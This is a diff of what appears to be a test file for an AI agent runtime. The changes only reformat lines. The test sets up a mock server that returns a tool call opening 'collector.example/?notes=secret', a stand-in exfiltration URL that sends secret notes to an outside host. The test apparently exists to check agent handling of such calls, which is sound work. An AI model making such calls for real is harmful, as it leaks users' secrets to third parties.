@@ -15,7 +15,13 @@ const server = await startWireServer({
   formats: [openaiChat],
   reply: [
     {
-      toolCalls: [{ id: 'call_1', name: 'open_page', arguments: { url: 'https://collector.example/?notes=secret' } }],
+      toolCalls: [
+        {
+          id: 'call_1',
+          name: 'open_page',
+          arguments: { url: 'https://collector.example/?notes=secret' },
+        },
+      ],
       finish: 'tool-calls',
       usage,
     },
@@ -24,7 +30,11 @@ const server = await startWireServer({
 })
 
 const model = modelAt(`${server.url}/v1`)
-const { text } = toDeno(apiHosts(model), { env: environmentNames([model]), program: agent, args: [`${server.url}/v1`] })
+const { text } = toDeno(apiHosts(model), {
+  env: environmentNames([model]),
+  program: agent,
+  args: [`${server.url}/v1`],
+})
 const command =
   text
     .trim()
